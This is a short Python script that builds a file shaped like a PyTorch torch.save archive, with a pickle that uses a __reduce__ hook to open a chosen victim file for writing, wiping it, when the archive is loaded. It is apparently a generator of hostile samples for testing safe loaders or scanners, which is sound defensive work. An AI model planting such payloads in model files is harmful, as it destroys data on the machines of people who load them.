"""Writes a file laid out as torch.save does it, whose pickle opens another file for writing when Python loads it."""

from __future__ import annotations

import json
import pickle
import sys
import zipfile


class Hostile:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return (open, (self.path, "w"))


values = json.load(sys.stdin)
with zipfile.ZipFile(values["file"], "w", zipfile.ZIP_STORED) as archive:
    archive.writestr("archive/data.pkl", pickle.dumps({"model": Hostile(values["victim"])}, protocol=2))
    archive.writestr("archive/version", "3\n")
